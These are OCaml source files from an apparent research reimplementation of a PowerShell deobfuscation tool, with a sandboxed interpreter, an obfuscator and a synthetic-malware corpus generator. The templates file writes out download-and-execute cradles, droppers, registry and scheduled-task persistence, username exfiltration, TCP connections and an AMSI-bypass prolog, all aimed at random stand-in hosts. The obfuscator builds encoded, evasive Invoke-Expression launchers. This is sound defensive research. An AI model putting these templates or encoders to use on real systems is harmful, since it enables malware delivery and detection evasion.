        let count = 11 + Bitstream.Reader.bits reader 7 in
        if !pos + count > Array.length lengths then raise (Corrupt "repeat overflow");
        pos := !pos + count
    | _ -> raise (Corrupt "bad code-length symbol")
  done;
  let lit = Array.sub lengths 0 hlit in
  let dist = Array.sub lengths hlit hdist in
  (decoder lit "literal/length code", decoder dist "distance code")

let inflate s =
  let reader = Bitstream.Reader.create s in
  let out = Buffer.create (String.length s * 3) in
  try
    let final = ref false in
    while not !final do
      final := Bitstream.Reader.bit reader = 1;
      match Bitstream.Reader.bits reader 2 with
      | 0 ->
          Bitstream.Reader.align_byte reader;
          let len = Bitstream.Reader.bits reader 16 in
          let nlen = Bitstream.Reader.bits reader 16 in
          if len lxor 0xFFFF <> nlen then raise (Corrupt "stored block LEN/NLEN mismatch");
          if Buffer.length out + len > max_output then raise (Corrupt "output too large");
          Buffer.add_string out (Bitstream.Reader.bytes reader len)
      | 1 ->
          let lit = decoder (Huffman.fixed_literal_lengths ()) "fixed literal code" in
          let dist = decoder (Huffman.fixed_distance_lengths ()) "fixed distance code" in
          inflate_block_data reader out lit dist
      | 2 ->
          let lit, dist = read_dynamic_tables reader in
          inflate_block_data reader out lit dist
      | _ -> raise (Corrupt "reserved block type")
    done;
    Ok (Buffer.contents out)
  with
  | Corrupt msg -> Error ("inflate: " ^ msg)
  | Failure msg -> Error ("inflate: " ^ msg)

let inflate_exn s =
  match inflate s with Ok v -> v | Error msg -> invalid_arg msg
