lib/deobf/rename.mli:
