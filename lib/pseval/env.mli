(** Evaluation environment: variable scopes, effect events, limits.

    Two modes share one interpreter:
    {ul
    {- [Recovery] — used by the deobfuscator's Invoke-based recovery.  Any
       side effect raises {!Blocked}; the deobfuscator then keeps the
       obfuscated piece, exactly as the paper's blocklist does.}
    {- [Sandbox] — used for behavioural-consistency experiments.  Side
       effects are recorded as events and return synthetic results, like
       the TianQiong sandbox the paper uses.}} *)

type mode = Recovery | Sandbox

type event =
  | Dns_query of string
  | Tcp_connect of string * int
  | Http_get of string
  | Http_download of string * string  (** url, destination path *)
  | File_write of string
  | File_read of string
  | Process_start of string
  | Registry_write of string
  | Sleep of float

val event_to_string : event -> string

exception Blocked of string
(** Raised in [Recovery] mode when execution would produce a side effect. *)

exception Eval_error of string
exception Limit_exceeded of string

type limits = {
  max_steps : int;
  max_invoke_depth : int;  (** nested Invoke-Expression layers *)
  max_collection : int;  (** range / array size cap *)
  max_string_bytes : int;  (** cap on any single string value built *)
  deadline : float;
      (** absolute wall-clock bound (epoch seconds, [infinity] = none),
          polled cooperatively by {!tick}; {!create} lowers it to any
          ambient {!Pscommon.Guard} deadline *)
}

val default_limits : limits

type fn = { fn_params : string list; fn_body : Psast.Ast.t }

type t = {
  mutable scopes : scope list;
  functions : (string, fn) Hashtbl.t;
  env_vars : (string, string) Hashtbl.t;  (** simulated [$env:] drive *)
  mode : mode;
  limits : limits;
  mutable steps : int;
  mutable invoke_depth : int;
  mutable events : event list;
  mutable command_log : string list;
      (** unresolved commands with stringified args, reverse order;
          [Sandbox] mode only (see {!log_command}) *)
  mutable output_sink : Psvalue.Value.t list;  (** Write-Host capture *)
  mutable downloads_fail : bool;
      (** dead-C2 simulation: network fetches record their event, then
          raise — how executing tools experience wild samples *)
  mutable iex_hook : (literal:bool -> string -> bool) option;
      (** overriding-function simulation; [literal] is true when the
          command was spelled out.  Returning [true] consumes the payload
          (skips execution), like an override that prints instead of
          executing. *)
  mutable provenance : Provenance.t option;
      (** when installed, the interpreter stamps each variable write with
          its defining extent / step / dependency set — the dynamic
          recovery plane.  [None] (the default) costs one load per write. *)
}

and scope = { table : (string, Psvalue.Value.t) Hashtbl.t }

val automatic_variables : (string * Psvalue.Value.t) list
(** The built-in variables an empty session provides ([$pshome], [$true],
    [$pid], …) — including the values obfuscators index into. *)

val create : ?mode:mode -> ?limits:limits -> unit -> t

val tick : t -> unit
(** Account one evaluation step.  @raise Limit_exceeded over budget.
    @raise Pscommon.Guard.Deadline_exceeded past the wall-clock deadline. *)

val tick_n : t -> int -> unit
(** Account [n] evaluation steps at once — used by compiled pieces to
    replay the step cost of constant-folded subtrees, keeping budgets
    identical to the uncompiled walk.  Polls the deadline when the bulk
    add crosses a 2048-step boundary (the same points {!tick} polls).
    @raise Limit_exceeded over budget. *)

val check_size : t -> Psvalue.Value.t -> unit
(** Enforce [max_string_bytes] / [max_collection] on a freshly built value —
    the string-building hot paths (concat, [-join], array append) call this
    so decode bombs stop growing at the cap.
    @raise Limit_exceeded when the value is over a limit. *)

val record : t -> event -> unit
(** Record a side effect ([Sandbox]) or @raise Blocked ([Recovery]). *)

val events : t -> event list
(** Events in occurrence order. *)

val log_command : t -> string -> string list -> unit
(** Note an unresolved command invocation ([name], stringified args) for the
    effect log.  No-op in [Recovery] mode by design: piece execution must
    stay observation-free so memoized piece results never carry effects a
    cache hit would drop or replay. *)

val commands : t -> string list
(** Logged command lines in invocation order. *)

val global_bindings : t -> (string * Psvalue.Value.t) list
(** Global-scope bindings the script established, sorted by name; automatic
    variables appear only if the script overwrote them. *)

val get_var : t -> string -> Psvalue.Value.t option
(** Scope-chain lookup; [$env:*] reads the simulated environment;
    drive-qualified names resolve their scope. *)

val set_var : t -> string -> Psvalue.Value.t -> unit
(** Update where visible, else create in the current scope. *)

val push_scope : t -> unit
val pop_scope : t -> unit
val with_scope : t -> (unit -> 'a) -> 'a

val define_function : t -> string -> fn -> unit
val find_function : t -> string -> fn option

val sink : t -> Psvalue.Value.t -> unit
(** Host output (Write-Host). *)

val sunk_output : t -> Psvalue.Value.t list

val bindings_digest : (string * Psvalue.Value.t) list -> string option
(** Content fingerprint of a seeded binding set, for memoizing piece
    recovery: two environments seeded from binding lists with equal digests
    evaluate any piece to the same value.  [None] when a binding holds a
    compound value (array, hashtable, stream, script block) — those are
    mutable or carry hidden state, so the set cannot be fingerprinted
    soundly and callers must not cache. *)
