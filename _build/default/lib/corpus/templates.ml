(** Malicious-script templates.

    The wild corpus is synthesised from behaviours the paper's intro
    motivates: downloaders, droppers, fileless loaders, recon, persistence,
    C2 beacons.  Every payload indicator (URL, IP, [.ps1] path) is inert and
    randomly generated; the scripts only ever run inside the sandbox
    interpreter. *)

open Pscommon

let word rng =
  let syllables =
    [ "ta"; "ro"; "mi"; "ka"; "zen"; "dor"; "lux"; "vex"; "pod"; "net"; "sky";
      "dat"; "sun"; "bit"; "hex"; "mal"; "pay"; "dark"; "fast"; "soft" ]
  in
  String.concat "" (List.init (Rng.int_in rng 2 3) (fun _ -> Rng.pick rng syllables))

let domain rng =
  Printf.sprintf "%s.%s" (word rng) (Rng.pick rng [ "com"; "net"; "org"; "io"; "xyz"; "top" ])

let ip rng =
  Printf.sprintf "%d.%d.%d.%d" (Rng.int_in rng 1 223) (Rng.int_in rng 0 255)
    (Rng.int_in rng 0 255) (Rng.int_in rng 1 254)

let url rng =
  let host = if Rng.chance rng 0.25 then ip rng else domain rng in
  Printf.sprintf "%s://%s/%s.%s"
    (Rng.pick rng [ "http"; "https" ])
    host (word rng)
    (Rng.pick rng [ "txt"; "ps1"; "exe"; "dat"; "jpg" ])

let ps1_path rng =
  Printf.sprintf "%s\\%s.ps1"
    (Rng.pick rng
       [ "C:\\Users\\Public"; "$env:temp"; "C:\\ProgramData"; "$env:appdata" ])
    (word rng)

let exe_path rng =
  Printf.sprintf "%s\\%s.exe"
    (Rng.pick rng [ "$env:temp"; "C:\\Users\\Public"; "$env:localappdata" ])
    (word rng)

(* ---------- templates ---------- *)

let downloader rng =
  Printf.sprintf
    "$u = '%s'\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c"
    (url rng)

let dropper rng =
  let target = exe_path rng in
  Printf.sprintf
    "$src = '%s'\n$dst = \"%s\"\n(New-Object Net.WebClient).DownloadFile($src, $dst)\nStart-Process $dst"
    (url rng) target

let stager rng =
  Printf.sprintf
    "$stage = '%s'\npowershell -NoProfile -Command ((New-Object Net.WebClient).DownloadString($stage))"
    (url rng)

let script_runner rng =
  let path = ps1_path rng in
  Printf.sprintf
    "(New-Object Net.WebClient).DownloadFile('%s', \"%s\")\npowershell -ExecutionPolicy Bypass -File \"%s\""
    (url rng) path path

let beacon rng =
  Printf.sprintf
    "$c2 = '%s'\nfor ($i = 0; $i -lt 3; $i++) {\n  $task = (New-Object Net.WebClient).DownloadString(\"$c2\")\n  if ($task) { Invoke-Expression $task }\n  Start-Sleep -Seconds 5\n}"
    (url rng)

let persistence rng =
  let path = ps1_path rng in
  Printf.sprintf
    "$payload = '%s'\n(New-Object Net.WebClient).DownloadFile($payload, \"%s\")\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '%s' -Value \"powershell -File %s\""
    (url rng) path (word rng) path

let recon rng =
  Printf.sprintf
    "$info = \"$env:computername|$env:username\"\n$exfil = '%s'\n(New-Object Net.WebClient).DownloadString(\"$exfil?d=$info\") | Out-Null"
    (url rng)

let tcp_shell rng =
  Printf.sprintf
    "$client = New-Object Net.Sockets.TcpClient('%s', %d)\nwrite-host connected"
    (ip rng)
    (Rng.pick rng [ 443; 4444; 8080; 1337; 9001 ])

let downloader_chain rng =
  Printf.sprintf
    "$a = '%s'\n$b = '%s'\n$first = (New-Object Net.WebClient).DownloadString($a + $b)\nInvoke-Expression $first"
    (Printf.sprintf "http://%s/" (domain rng))
    (Printf.sprintf "%s.txt" (word rng))

let embedded_payload rng =
  (* a dropper with an inline binary payload: its base64 decodes to bytes,
     not script text, so no deobfuscator can (or should) rewrite it — this
     is the paper's explanation for bounded L3 mitigation (§IV-C4) *)
  let blob_len = Rng.int_in rng 120 360 in
  let blob =
    Encoding.Base64.encode
      ("MZ\x90\x00" ^ String.init blob_len (fun _ -> Char.chr (Rng.int rng 256)))
  in
  let target = exe_path rng in
  Printf.sprintf
    "$blob = '%s'\n$bytes = [Convert]::FromBase64String($blob)\nSet-Content -Path \"%s\" -Value $bytes\nStart-Process \"%s\""
    blob target target

let amsi_bypass_downloader rng =
  (* the §V-B prolog: disable AMSI by reflection, then stage — the flagged
     'AmsiUtils' string is concatenation-split, the paper's bypass example *)
  Printf.sprintf
    "[Ref].Assembly.GetType(('System.Management.Automation.Amsi'+'Utils')) | Out-Null\n$u = '%s'\nInvoke-Expression ((New-Object Net.WebClient).DownloadString($u))"
    (url rng)

let scheduled_task rng =
  let path = ps1_path rng in
  Printf.sprintf
    "(New-Object Net.WebClient).DownloadFile('%s', \"%s\")\n$action = \"powershell -WindowStyle Hidden -File %s\"\nRegister-ScheduledTask -TaskName '%s' -Action $action | Out-Null"
    (url rng) path path (word rng)

let wmi_spawn rng =
  Printf.sprintf
    "$cmd = \"powershell -NoProfile -Command ((New-Object Net.WebClient).DownloadString('%s'))\"\nInvoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $cmd | Out-Null\nInvoke-Expression ((New-Object Net.WebClient).DownloadString('%s'))"
    (url rng) (url rng)

let benign_admin rng =
  (* a small share of collected "malicious" samples are actually admin
     scripts; they exercise the control-flow paths *)
  Printf.sprintf
    "function Get-%s {\n  param($limit)\n  foreach ($i in 1..$limit) { Write-Output \"item $i\" }\n}\nGet-%s 3 | Out-String"
    (String.capitalize_ascii (word rng))
    (String.capitalize_ascii (word rng))

let all =
  [ ("downloader", downloader); ("dropper", dropper); ("stager", stager);
    ("script-runner", script_runner); ("beacon", beacon);
    ("persistence", persistence); ("recon", recon); ("tcp-shell", tcp_shell);
    ("downloader-chain", downloader_chain); ("embedded-payload", embedded_payload);
    ("amsi-bypass", amsi_bypass_downloader); ("scheduled-task", scheduled_task);
    ("wmi-spawn", wmi_spawn); ("benign-admin", benign_admin) ]

let weights =
  [ (0.22, "downloader"); (0.12, "dropper"); (0.08, "stager");
    (0.08, "script-runner"); (0.05, "beacon"); (0.08, "persistence");
    (0.07, "recon"); (0.03, "tcp-shell"); (0.05, "downloader-chain");
    (0.07, "embedded-payload"); (0.05, "amsi-bypass");
    (0.04, "scheduled-task"); (0.03, "wmi-spawn"); (0.03, "benign-admin") ]

let generate rng =
  let name = Rng.pick_weighted rng weights in
  let template = List.assoc name all in
  (name, template rng)
