examples/obfuscation_roundtrip.mli:
