lib/regexen/regex.mli:
