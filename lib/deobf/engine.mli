(** Invoke-Deobfuscation — the full pipeline (paper Fig 2).

    {[
      let result = Deobf.Engine.run obfuscated_script in
      print_string result.output
    ]}

    Phases: token parsing → variable tracing & recovery based on AST
    (iterated to a fixpoint, unwrapping [Invoke-Expression] layers) →
    renaming and reformatting.  Each phase's output is syntax-checked and a
    phase that breaks the script is skipped, so when the input parses the
    output does too. *)

type options = {
  token_phase : bool;  (** L1 recovery from tokens (§III-A) *)
  recovery : recovery_options;
  rename : bool;  (** rename randomised identifiers to [var{n}] (§III-C) *)
  reformat : bool;  (** normalise whitespace and indentation *)
  max_iterations : int;  (** fixpoint bound for the recovery loop *)
  partial : bool;
      (** partial-parse recovery (default on): when the whole file fails to
          parse, segment it with {!Psparse.Segment} into maximal parseable
          regions, deobfuscate each through the normal fixpoint
          independently (renaming disabled — opaque fragments may reference
          original names), and reassemble with unparseable fragments passed
          through verbatim *)
}

and recovery_options = Recover.options = {
  use_tracing : bool;
  use_blocklist : bool;
  use_multilayer : bool;
  use_piece_cache : bool;
  max_depth : int;
  piece_step_budget : int;
  piece_timeout_s : float;
  use_dynamic : bool;
      (** provenance-guided dynamic recovery of loop/conditional regions
          ({!Recover.run_dynamic}), run as its own guarded phase after the
          static fixpoint *)
  dynamic_step_budget : int;
}

val default_options : options

type result = {
  output : string;
  stats : Recover.stats;
  iterations : int;  (** recovery passes actually run, not the bound *)
  changed : bool;  (** false when the tool returned the input unchanged *)
}

val run : ?options:options -> string -> result
(** Deobfuscate a script.  Never raises.  A script that fails to lex or
    parse goes through partial-parse recovery (see {!options.partial});
    when nothing at all is recoverable it comes back unchanged with
    [changed = false]. *)

type failure_site = { phase : string; failure : Pscommon.Guard.failure }
(** One contained degradation: which pipeline phase gave up and why.
    Phases, in degradation order: ["parse"], ["segment"], ["region"],
    ["recovery"], ["dynamic"], ["rename"], ["reformat"]. *)

type guarded = {
  result : result;
  failures : failure_site list;  (** contained degradations, in phase order *)
  timings : (string * float) list;
      (** wall milliseconds per phase (["parse"], ["recovery"], ["rename"],
          ["reformat"], ["check"]), {e summed} per phase in first-execution
          order — keys are unique, so the list renders directly as a JSON
          object.  The per-pass breakdown is exposed as [engine.pass]
          telemetry spans instead. *)
  regions_total : int;
      (** segments produced by partial-parse recovery (parseable, opaque
          and binary); 0 when the input parsed whole or [partial] is off *)
  regions_recovered : int;
      (** parseable regions whose sub-pipeline ran to completion *)
  edit_log : Editlog.stage list;
      (** journal of every extent edit the run applied, in stage order —
          what {!Verify} bisects on divergence.  Empty for the
          partial-parse (region) path, whose edits are local to region
          texts and cannot be replayed against the whole file. *)
}

val run_guarded :
  ?options:options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?cache:Recover.Cache.t ->
  ?suppress:Editlog.suppression list ->
  string ->
  guarded
(** Totalised pipeline for hostile input: every phase runs under
    {!Pscommon.Guard.protect} with one wall-clock deadline for the whole
    run.  Deeply nested scripts, decode bombs and random bytes each come
    back as a structured {!failure_site} — the call itself always returns,
    degrading phase-by-phase to the best text produced so far (partial
    recovery is kept on timeout).

    [cache] supplies a caller-owned piece cache that persists across runs
    (the serve daemon keeps one warm per worker domain); by default each
    run gets a private cache.  Cache keys include the traced-binding
    digest and wall-clock-dependent failures are never stored, so a warm
    cache replays the exact results a cold run would compute.

    [suppress] re-runs the pipeline with the matching edits rolled back
    (content-matched at every depth; {!Editlog.suppress_finalize} disables
    rename + reformat) — the semantic gate's rollback mechanism. *)

val run_with_scores : ?options:options -> string -> result * int * int
(** [run_with_scores src] also returns the obfuscation score before and
    after (paper §IV-B2). *)

type phase_output = { phase : string; text : string }

val run_phases : ?options:options -> string -> phase_output list
(** The staged view of the pipeline (paper Fig 7): original, after token
    parsing, after recovery, after renaming and reformatting. *)
