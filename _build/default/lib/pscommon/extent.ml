type t = { start : int; stop : int }

let make ~start ~stop =
  if start < 0 then invalid_arg "Extent.make: negative start";
  if stop < start then invalid_arg "Extent.make: stop < start";
  { start; stop }

let empty_at pos = make ~start:pos ~stop:pos
let length e = e.stop - e.start
let is_empty e = e.stop = e.start
let contains outer inner = outer.start <= inner.start && inner.stop <= outer.stop

let overlaps a b =
  let lo = max a.start b.start and hi = min a.stop b.stop in
  lo < hi

let before a b = a.stop <= b.start

let union a b =
  { start = min a.start b.start; stop = max a.stop b.stop }

let text src e =
  if e.stop > String.length src then invalid_arg "Extent.text: out of range";
  String.sub src e.start (length e)

let shift e delta = make ~start:(e.start + delta) ~stop:(e.stop + delta)

let compare a b =
  match Int.compare a.start b.start with
  | 0 -> Int.compare a.stop b.stop
  | c -> c

let equal a b = a.start = b.start && a.stop = b.stop
let pp fmt e = Format.fprintf fmt "[%d,%d)" e.start e.stop
