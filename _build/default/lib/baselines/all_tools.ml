(** The five tools of the paper's comparison, in its ordering. *)

let invoke_deobfuscation =
  {
    Tool.name = "Invoke-Deobfuscation";
    deobfuscate =
      (fun script ->
        let result = Deobf.Engine.run script in
        Tool.plain result.Deobf.Engine.output);
  }

let baselines = [ Psdecode.tool; Powerdrive.tool; Powerdecode.tool; Li_etal.tool ]
let all = baselines @ [ invoke_deobfuscation ]

let by_name name =
  List.find_opt (fun t -> Pscommon.Strcase.equal t.Tool.name name) all
