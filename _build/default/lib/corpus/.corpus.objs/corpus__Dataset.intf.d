lib/corpus/dataset.mli: Generator
