(** L3 obfuscation: encodings that hide character-level information.

    Each wrapper turns a whole script into an encoded payload plus inline
    decoder, invoked through one of the [Invoke-Expression] spellings the
    paper lists (§III-B4): [iex], [| iex], [&('iex')],
    [.($pshome\[4\]+$pshome\[30\]+'x')], or [powershell -EncodedCommand]. *)

open Pscommon

let quote = L2.quote

(* an Invoke-Expression spelling applied to an expression string.
   [`Literal] spellings name the cmdlet outright; [`Obfuscated] ones hide it
   behind the call operator and recovered strings, which is what defeats the
   override-based baselines. *)
let invoke_wrap ?(launcher = `Random) rng expr =
  let pick_literal () =
    match Rng.int rng 4 with
    | 0 -> Printf.sprintf "Invoke-Expression %s" expr
    | 1 -> Printf.sprintf "iex %s" expr
    | 2 -> Printf.sprintf "%s | iex" expr
    | _ -> Printf.sprintf "%s | Invoke-Expression" expr
  in
  let pick_obfuscated () =
    match Rng.int rng 3 with
    | 0 -> Printf.sprintf "& ('ie'+'x') %s" expr
    | 1 -> Printf.sprintf ".($pshome[4]+$pshome[30]+'x') %s" expr
    | _ -> Printf.sprintf "& ($env:comspec[4,24,25] -join '') %s" expr
  in
  match launcher with
  | `Literal -> pick_literal ()
  | `Obfuscated -> pick_obfuscated ()
  | `Random -> if Rng.chance rng 0.35 then pick_literal () else pick_obfuscated ()

let pick_sep rng = Rng.pick rng [ ","; "-"; "~"; ":" ]

(* The encoded payload either stays inline as a quoted literal, or — like
   the paper's case study — is split across variables assigned beforehand.
   Variable indirection is what defeats context-free direct execution. *)
let payload_slot ?(indirect = false) rng payload =
  if not indirect then ("", quote payload)
  else begin
    let pieces = L2.split_pieces rng payload (Rng.int_in rng 2 3) in
    let names = List.map (fun _ -> Rng.ident rng ~min_len:4 ~max_len:8) pieces in
    let preamble =
      String.concat ""
        (List.map2
           (fun n p -> Printf.sprintf "$%s = %s\n" n (quote p))
           names pieces)
    in
    let expr = "(" ^ String.concat " + " (List.map (fun n -> "$" ^ n) names) ^ ")" in
    (preamble, expr)
  end

let radix_codes radix sep script =
  String.concat sep (Encoding.Digits.encode_codes radix script)

let encode_radix ?launcher ?indirect rng radix script =
  let sep = pick_sep rng in
  let codes = radix_codes radix sep script in
  let conv =
    match radix with
    | Encoding.Digits.Decimal -> "[char][int]$_"
    | Encoding.Digits.Hex -> "[char][convert]::ToInt32($_,16)"
    | Encoding.Digits.Octal -> "[char][convert]::ToInt32($_,8)"
    | Encoding.Digits.Binary -> "[char][convert]::ToInt32($_,2)"
  in
  let preamble, payload = payload_slot ?indirect rng codes in
  preamble
  ^ invoke_wrap ?launcher rng
      (Printf.sprintf "((%s -split '%s' | ForEach-Object { %s }) -join '')"
         payload sep conv)

let encode_bxor ?launcher ?indirect rng script =
  let key = Rng.int_in rng 1 255 in
  let sep = pick_sep rng in
  let codes =
    String.concat sep
      (List.init (String.length script) (fun i ->
           string_of_int (Char.code script.[i] lxor key)))
  in
  let preamble, payload = payload_slot ?indirect rng codes in
  let expr =
    Printf.sprintf
      "((%s -split '%s' | ForEach-Object { [char]($_ -bxor %s) }) -join '')"
      payload sep
      (quote (Printf.sprintf "0x%02X" key))
  in
  preamble ^ invoke_wrap ?launcher rng expr

let encode_base64 ?launcher ?indirect rng script =
  if Rng.chance rng 0.35 && indirect <> Some true then
    (* child-powershell form with an auto-completed parameter spelling *)
    let flag = Rng.pick rng [ "-e"; "-en"; "-enc"; "-eNc"; "-EncodedCommand"; "-eNCODEDcOMMANd" ] in
    Printf.sprintf "powershell %s %s" flag
      (Encoding.Base64.encode (Encoding.Utf16.encode script))
  else
    let enc, b64 =
      if Rng.bool rng then ("Unicode", Encoding.Base64.encode (Encoding.Utf16.encode script))
      else ("ASCII", Encoding.Base64.encode script)
    in
    let preamble, payload = payload_slot ?indirect rng b64 in
    preamble
    ^ invoke_wrap ?launcher rng
        (Printf.sprintf "([Text.Encoding]::%s.GetString([Convert]::FromBase64String(%s)))"
           enc payload)

let encode_securestring ?launcher ?indirect rng script =
  let blob =
    "76492d1116743f0423413b16050a5345" ^ "|"
    ^ Encoding.Base64.encode (Encoding.Utf16.encode script)
  in
  let key = Rng.pick rng [ "(0..31)"; "(1..16)"; "(2..33)" ] in
  let preamble, payload = payload_slot ?indirect rng blob in
  preamble
  ^ invoke_wrap ?launcher rng
      (Printf.sprintf
         "([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String %s -Key %s))))"
         payload key)

let encode_deflate ?launcher ?indirect rng script =
  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate script) in
  let preamble, payload = payload_slot ?indirect rng b64 in
  preamble
  ^ invoke_wrap ?launcher rng
      (Printf.sprintf
         "((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String(%s),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())"
         payload)

(* Whitespace encoding hides each character as a run of spaces whose length
   is the code point minus an offset, decoded by a loop.  The paper's tool
   cannot recover this (variable assigned inside a loop, §V-C) — keeping
   that failure mode reproducible requires generating the loop form. *)
let encode_whitespace rng script =
  (* run length = code point, so control characters (newlines) survive *)
  let runs =
    String.concat "\t"
      (List.init (String.length script) (fun i ->
           String.make (Char.code script.[i]) ' '))
  in
  let acc = Rng.ident rng ~min_len:4 ~max_len:8 in
  let item = Rng.ident rng ~min_len:3 ~max_len:6 in
  Printf.sprintf
    "$%s = '';foreach ($%s in (%s -split \"`t\")) { $%s += [char]($%s.Length) };.($pshome[4]+$pshome[30]+'x') $%s"
    acc item (quote runs) acc item acc

(* Special-character obfuscation: payload pieces live in braced variables
   whose names are made of punctuation. *)
let encode_specialchar ?launcher rng script =
  let special_chars = [ '!'; '@'; '#'; '%'; '^'; '&'; '*'; '-'; '+'; '='; '.'; '/' ] in
  let fresh_name used =
    let rec go () =
      let n = String.init (Rng.int_in rng 2 4) (fun _ -> Rng.pick rng special_chars) in
      if List.mem n !used then go ()
      else begin
        used := n :: !used;
        n
      end
    in
    go ()
  in
  let pieces = L2.split_pieces rng script (Rng.int_in rng 2 4) in
  let used = ref [] in
  let names = List.map (fun _ -> fresh_name used) pieces in
  let assignments =
    List.map2
      (fun name piece -> Printf.sprintf "${%s} = %s" name (quote piece))
      names pieces
  in
  let concat_expr = String.concat "+" (List.map (fun n -> Printf.sprintf "${%s}" n) names) in
  String.concat ";" assignments ^ ";"
  ^ invoke_wrap ?launcher rng (Printf.sprintf "(%s)" concat_expr)

let apply ?launcher ?indirect rng technique script =
  match technique with
  | Technique.Enc_binary -> encode_radix ?launcher ?indirect rng Encoding.Digits.Binary script
  | Technique.Enc_octal -> encode_radix ?launcher ?indirect rng Encoding.Digits.Octal script
  | Technique.Enc_ascii -> encode_radix ?launcher ?indirect rng Encoding.Digits.Decimal script
  | Technique.Enc_hex -> encode_radix ?launcher ?indirect rng Encoding.Digits.Hex script
  | Technique.Enc_base64 -> encode_base64 ?launcher ?indirect rng script
  | Technique.Enc_whitespace -> encode_whitespace rng script
  | Technique.Enc_specialchar -> encode_specialchar ?launcher rng script
  | Technique.Enc_bxor -> encode_bxor ?launcher ?indirect rng script
  | Technique.Secure_string_enc -> encode_securestring ?launcher ?indirect rng script
  | Technique.Deflate_compress -> encode_deflate ?launcher ?indirect rng script
  | t -> invalid_arg ("L3.apply: not an L3 technique: " ^ Technique.name t)
