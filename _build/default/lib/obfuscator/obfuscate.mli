(** Top-level obfuscation driver (the Invoke-Obfuscation substitute).

    All entry points are deterministic in the supplied {!Pscommon.Rng.t};
    whole-script application preserves syntax validity and sandbox
    behaviour (tested property). *)

val apply : Pscommon.Rng.t -> Technique.t -> string -> string
(** Apply one technique to a whole script: token-level patches for L1,
    string-literal rewriting for L2, an encoded wrapper for L3. *)

val piece : Pscommon.Rng.t -> Technique.t -> string -> string
(** An obfuscated {e piece} for the deobfuscation-ability experiment
    (Table II): L1 retries until the technique visibly fired; L2 yields a
    string expression evaluating to the input; L3 wrappers use obfuscated
    launcher spellings with variable indirection, as wild pieces do. *)

val compose : Pscommon.Rng.t -> Technique.t list -> string -> string
(** Apply several techniques left to right (L3 techniques stack). *)

val wild_mix :
  ?p_l1:float ->
  ?p_l2:float ->
  ?p_l3:float ->
  ?launcher:[ `Literal | `Obfuscated | `Random ] ->
  Pscommon.Rng.t ->
  string ->
  string * Technique.t list
(** A wild-style sample following the paper's Table I level distribution
    (defaults 98% / 98% / 96%).  Name randomisation runs before encoding;
    L3 wraps the whole script or a single statement line (partial
    obfuscation, the shape of the paper's case script); L2 rewrites the
    outermost layer's strings.  Returns the script and the applied
    techniques. *)

val multilayer : Pscommon.Rng.t -> int -> string -> string
(** Stack the given number of random L3 wrappers (Table III workload). *)
