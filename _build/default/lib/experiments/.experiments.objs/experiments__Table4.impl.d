lib/experiments/table4.ml: Baselines Corpus Effectiveness List Printf Sandbox
