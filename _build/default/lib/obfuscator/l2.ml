(** L2 obfuscation: string concatenating, reordering, replacing, reversing.

    [string_expr] builds an expression that evaluates back to the given
    string; [apply] rewrites eligible single-quoted literals of a whole
    script with such expressions (parenthesised, so they stay valid in
    argument position). *)

open Pscommon
module T = Pslex.Token

let quote s =
  let buf = Buffer.create (String.length s + 2) in
  Buffer.add_char buf '\'';
  String.iter
    (fun c -> if c = '\'' then Buffer.add_string buf "''" else Buffer.add_char buf c)
    s;
  Buffer.add_char buf '\'';
  Buffer.contents buf

(* split s into n non-empty consecutive pieces *)
let split_pieces rng s n =
  let len = String.length s in
  let n = max 1 (min n len) in
  let cuts =
    List.init (n - 1) (fun _ -> 1 + Rng.int rng (len - 1))
    |> List.sort_uniq compare
  in
  let rec build start cuts =
    match cuts with
    | [] -> [ String.sub s start (len - start) ]
    | c :: rest -> String.sub s start (c - start) :: build c rest
  in
  build 0 cuts

let concat rng s =
  let pieces = split_pieces rng s (Rng.int_in rng 2 5) in
  "(" ^ String.concat "+" (List.map quote pieces) ^ ")"

let reorder rng s =
  let pieces = split_pieces rng s (Rng.int_in rng 2 5) in
  let n = List.length pieces in
  let order = Rng.shuffle rng (List.init n (fun i -> i)) in
  (* order.(k) = original index stored at argument slot k; the format string
     needs, at position i, the slot holding piece i *)
  let slot_of_piece = Array.make n 0 in
  List.iteri (fun slot piece_idx -> slot_of_piece.(piece_idx) <- slot) order;
  let fmt =
    String.concat ""
      (List.init n (fun i -> Printf.sprintf "{%d}" slot_of_piece.(i)))
  in
  let args =
    List.map (fun piece_idx -> quote (List.nth pieces piece_idx)) order
  in
  Printf.sprintf "(\"%s\" -f %s)" fmt (String.concat "," args)

let marker rng s =
  (* a short token that does not occur in s *)
  let rec try_one () =
    let m = String.init (Rng.int_in rng 2 3) (fun _ -> Rng.lowercase_letter rng) in
    if Strcase.contains ~needle:m s then try_one () else m
  in
  try_one ()

let replace rng s =
  if String.length s < 2 then quote s
  else begin
    (* pick a substring to hide behind a marker; the marker must occur in
       the marked string exactly once and exactly where it was inserted, or
       .Replace would reconstruct the wrong text (adjacent characters can
       form an earlier overlapping occurrence: 'o' + marker "oo" = "ooo") *)
    let start = Rng.int rng (String.length s - 1) in
    let len = Rng.int_in rng 1 (min 4 (String.length s - start)) in
    let piece = String.sub s start len in
    let rec attempt tries =
      if tries = 0 then concat rng s  (* fall back to concatenation *)
      else begin
        let m = marker rng s in
        let with_marker =
          String.sub s 0 start ^ m
          ^ String.sub s (start + len) (String.length s - start - len)
        in
        let first = Strcase.index_opt ~needle:m with_marker in
        let second = Strcase.index_opt ~from:(start + 1) ~needle:m with_marker in
        if first = Some start && second = None then
          Printf.sprintf "(%s.Replace(%s,%s))" (quote with_marker) (quote m)
            (quote piece)
        else attempt (tries - 1)
      end
    in
    attempt 8
  end

let reverse _rng s =
  let n = String.length s in
  let reversed = String.init n (fun i -> s.[n - 1 - i]) in
  Printf.sprintf "(-join (%s[-1..-%d]))" (quote reversed) n

let string_expr rng technique s =
  match technique with
  | Technique.Str_concat -> concat rng s
  | Technique.Str_reorder -> reorder rng s
  | Technique.Str_replace -> replace rng s
  | Technique.Str_reverse -> reverse rng s
